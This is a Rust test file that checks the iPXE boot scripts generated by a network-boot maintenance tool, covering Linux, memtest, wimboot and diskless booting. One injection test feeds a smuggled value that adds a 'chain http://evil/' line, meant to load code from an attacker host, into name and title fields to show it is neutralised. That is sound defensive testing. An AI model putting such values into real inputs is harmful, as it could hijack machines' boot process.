//! The scripts, word for word.
#![expect(clippy::unwrap_used, reason = "what a test cannot unwrap, it fails at")]

mod common;

use common::{JOB, MAC, assignment, desktop, linux, memtest, own_image, part};
use pitstop_domain::image::{ImageFormat, ImageVersion, PartRole};
use pitstop_domain::machine::Firmware;
use pitstop_netboot::directory::Assignment;
use pitstop_netboot::script::{
    Boot, OwnBoot, Unusable, ask_again, cannot_boot, maintenance, own_image as own_script, own_system,
    who_are_you,
};

const BASE: &str = "http://10.77.0.2:8080";

fn script(assignment: &Assignment, firmware: Firmware) -> Result<String, Unusable> {
    maintenance(&Boot { assignment, firmware, mac: MAC, uuid: None, base: BASE, diskless: false })
}

const BEGIN: &str = "\
#!ipxe
# Pitstop: maintenance of pc-17, job 00000000-0000-0000-0000-0000000000bb
echo
echo Pitstop maintenance
echo Computer: pc-17
echo Work: Memory test
echo The memory of this computer is tested. This takes about an hour.
echo Please do not switch this computer off.
echo
set tries:int32 0
:load
";

fn end(firmware: &str) -> String {
    END.replace("FIRMWARE", firmware)
}

const END: &str = "\
goto home
:again
imgfree ||
inc tries
iseq ${tries} 5 && goto home ||
echo Loading failed. Trying again in 5 seconds.
sleep 5
goto load
:home
echo Maintenance could not be started.
chain --replace http://10.77.0.2:8080/boot/script?mac=52-54-00-1a-38-75&arch=FIRMWARE&failed=true ||
echo Starting this computer's own system.
iseq ${platform} efi && goto efi ||
sanboot --no-describe --drive 0x80 || exit
:efi
exit 1
";

#[test]
fn linux_is_loaded_with_what_the_agent_needs_to_know() {
    let load = "\
kernel http://10.77.0.2:8080/boot/jobs/00000000-0000-0000-0000-0000000000bb/s3cret-token/vmlinuz initrd=initrd.img \
console=ttyS0 quiet BOOTIF=01-52-54-00-1a-38-75 pitstop.server=http://10.77.0.2:8080 \
pitstop.job=00000000-0000-0000-0000-0000000000bb pitstop.token=s3cret-token \
pitstop.machine=00000000-0000-0000-0000-0000000000aa || goto again
initrd --name initrd.img http://10.77.0.2:8080/boot/jobs/00000000-0000-0000-0000-0000000000bb/s3cret-token/initrd.img || goto again
boot || goto again
";
    for (firmware, name) in [(Firmware::Bios, "pcbios"), (Firmware::Uefi, "efi")] {
        assert_eq!(script(&assignment(linux()), firmware).unwrap(), format!("{BEGIN}{load}{}", end(name)));
    }
}

#[test]
fn a_program_is_a_kernel_to_bios_and_a_program_to_uefi() {
    let at = format!("{BASE}/boot/jobs/{JOB}/s3cret-token");
    let bios = format!("kernel {at}/memtest86+x64.bin nosmp || goto again\nboot || goto again\n");
    assert_eq!(
        script(&assignment(memtest()), Firmware::Bios).unwrap(),
        format!("{BEGIN}{bios}{}", end("pcbios"))
    );
    let uefi = format!("chain --autofree {at}/memtest86+x64.efi nosmp || goto again\n");
    assert_eq!(
        script(&assignment(memtest()), Firmware::Uefi).unwrap(),
        format!("{BEGIN}{uefi}{}", end("efi"))
    );
}

#[test]
fn the_own_system_follows_where_nothing_is_asked() {
    let expected = "\
#!ipxe
# Pitstop: nothing is asked of this machine
echo Starting this computer's own system.
iseq ${platform} efi && goto efi ||
sanboot --no-describe --drive 0x80 || exit
:efi
exit 1
";
    assert_eq!(own_system("nothing is asked of this machine"), expected);
    assert!(ask_again("http://x/").contains("\nchain --replace http://x/ ||\n"));
    assert!(
        who_are_you(BASE)
            .starts_with("#!ipxe\nchain --replace http://10.77.0.2:8080/boot/script?mac=${netX/mac")
    );
}

#[test]
fn nobody_can_write_lines_of_a_script() {
    let nasty = "x\nchain http://evil/ || exit ; # ${uuid}";
    let mut bad = assignment(linux());
    bad.machine_name = nasty.into();
    bad.title = nasty.into();
    bad.told = nasty.into();
    let clean = script(&assignment(linux()), Firmware::Bios).unwrap();
    let script = script(&bad, Firmware::Bios).unwrap();
    assert_eq!(script.lines().count(), clean.lines().count());
    assert!(script.lines().all(|line| !line.starts_with("chain http")));
    let texts: Vec<&str> = script.lines().filter(|line| line.contains("evil")).collect();
    assert_eq!(texts.len(), 4);
    assert!(texts.iter().all(|line| line.starts_with("echo ") || line.starts_with("# ")));
    assert!(texts.iter().all(|line| !line.contains("||") && !line.contains('$') && !line.contains(';')));
}

#[test]
fn an_image_that_cannot_stand_in_a_script_is_refused() {
    let refused = |image: ImageVersion| script(&assignment(image), Firmware::Bios).unwrap_err().to_string();
    let mut image = linux();
    image.cmdline = "quiet || exit".into();
    assert!(refused(image).contains("because of `||`"));
    let mut image = linux();
    image.parts = vec![part(PartRole::Kernel, "../x y")];
    assert!(refused(image).contains("`../x y`"));
    let mut image = memtest();
    image.parts.clear();
    assert_eq!(refused(image), "the image memtest has no BIOS program: it does not start from BIOS");
    let mut bad = assignment(linux());
    bad.token = "s3cret\nexit".into();
    assert!(!script(&bad, Firmware::Bios).unwrap_err().to_string().contains("s3cret"));
}

#[test]
fn a_system_that_fetches_more_of_itself_is_told_from_where() {
    let mut image = linux();
    image.parts.push(part(PartRole::File, "filesystem.squashfs"));
    image.cmdline = "fetch={file:filesystem.squashfs} srv={files}/ other={file:missing}".into();
    let script = script(&assignment(image), Firmware::Bios).unwrap();
    let folder = format!("http://10.77.0.2:8080/boot/jobs/{JOB}/s3cret-token");
    let words = format!(" fetch={folder}/filesystem.squashfs srv={folder}/ other={{file:missing}} ");
    assert!(script.contains(&words), "{script}");
    assert!(!script.contains("initrd --name filesystem.squashfs"), "{script}");
}

#[test]
fn a_script_of_ipxe_is_handed_over_to_with_the_folder_of_its_files() {
    let image = ImageVersion {
        format: ImageFormat::Script,
        parts: vec![part(PartRole::Script, "menu.ipxe")],
        ..memtest()
    };
    for firmware in [Firmware::Bios, Firmware::Uefi] {
        let script = script(&assignment(image.clone()), firmware).unwrap();
        let folder = format!("http://10.77.0.2:8080/boot/jobs/{JOB}/s3cret-token");
        let lines = format!(
            ":load\nset files {folder}\nchain --autofree {folder}/menu.ipxe || goto again\ngoto home\n"
        );
        assert!(script.contains(&lines), "{script}");
    }
}

#[test]
fn windows_is_started_by_wimboot_with_its_files_under_their_names() {
    let image = ImageVersion {
        format: ImageFormat::Wim,
        parts: vec![
            part(PartRole::Wimboot, "wimboot"),
            part(PartRole::Wim, "BCD"),
            part(PartRole::Wim, "boot.wim"),
        ],
        cmdline: String::new(),
        ..memtest()
    };
    let script = script(&assignment(image.clone()), Firmware::Uefi).unwrap();
    let folder = format!("http://10.77.0.2:8080/boot/jobs/{JOB}/s3cret-token");
    let lines = format!(
        ":load\nkernel {folder}/wimboot || goto again\ninitrd --name BCD {folder}/BCD BCD || goto again\n\
         initrd --name boot.wim {folder}/boot.wim boot.wim || goto again\nboot || goto again\n"
    );
    assert!(script.contains(&lines), "{script}");
    let without = ImageVersion { parts: image.parts[1..].to_vec(), ..image };
    assert!(
        self::script(&assignment(without), Firmware::Bios)
            .unwrap_err()
            .to_string()
            .contains("has no wimboot")
    );
}

fn desktop_script(image: ImageVersion, again: u8) -> Result<String, Unusable> {
    let own = own_image(image);
    own_script(&OwnBoot { own: &own, firmware: Firmware::Bios, mac: MAC, uuid: None, base: BASE, again })
}

#[test]
fn a_diskless_machine_boots_its_own_system_and_never_gives_up() {
    let d = "d".repeat(64);
    let expected = format!(
        "\
#!ipxe
# Pitstop: own system of pc-17, from the network
echo
echo Pitstop: this computer's own system comes from the network
echo Computer: pc-17
echo System: Desktop 1
kernel http://10.77.0.2:8080/boot/own/00000000-0000-0000-0000-0000000000aa/s3cret-token/vmlinuz?image={d} \
initrd=initrd.img console=ttyS0 quiet BOOTIF=01-52-54-00-1a-38-75 pitstop.server=http://10.77.0.2:8080 \
pitstop.machine=00000000-0000-0000-0000-0000000000aa pitstop.own=s3cret-token || goto again
initrd --name initrd.img http://10.77.0.2:8080/boot/own/00000000-0000-0000-0000-0000000000aa/s3cret-token/initrd.img?image={d} || goto again
boot || goto again
:again
imgfree ||
echo The own system could not be loaded.
echo Asking again in 5 seconds.
sleep 5
set pause:int32 5
:ask
chain --replace http://10.77.0.2:8080/boot/script?mac=52-54-00-1a-38-75&arch=pcbios&diskless=true&again=1 ||
echo The server does not answer. Asking again in ${{pause}} seconds.
sleep ${{pause}}
iseq ${{pause}} 60 || inc pause 5
goto ask
"
    );
    assert_eq!(desktop_script(desktop(), 0).unwrap(), expected);
}

#[test]
fn a_diskless_machine_asks_more_and_more_seldom() {
    let pause = |again| {
        let script = desktop_script(desktop(), again).unwrap();
        assert!(script.contains(&format!("&again={} ||", again.saturating_add(1))), "{script}");
        script.lines().find_map(|line| line.strip_prefix("sleep ")?.parse::<u32>().ok()).unwrap()
    };
    assert_eq!([0, 1, 2, 3, 4, 5, 255].map(pause), [5, 10, 20, 40, 60, 60, 60]);
}

#[test]
fn nothing_ends_in_the_firmware_of_a_diskless_machine() {
    let assigned = assignment(linux());
    let (firmware, mac, uuid, base) = (Firmware::Uefi, MAC, None, BASE);
    let boot = Boot { assignment: &assigned, firmware, mac, uuid, base, diskless: true };
    let scripts = [
        maintenance(&boot).unwrap(),
        desktop_script(desktop(), 3).unwrap(),
        cannot_boot("x || exit ; # ${uuid}\nexit", BASE, MAC, None, Firmware::Bios, 0),
    ];
    for script in scripts {
        let ends = |line: &str| line.starts_with("exit") || line.starts_with("sanboot");
        assert!(!script.lines().any(ends), "{script}");
        assert!(script.contains("&diskless=true") && script.ends_with("goto ask\n"), "{script}");
    }
}

#[test]
fn an_own_system_that_cannot_stand_in_a_script_is_refused() {
    let mut image = desktop();
    image.cmdline = "quiet && exit".into();
    assert!(desktop_script(image, 0).unwrap_err().to_string().contains("because of `&&`"));
}
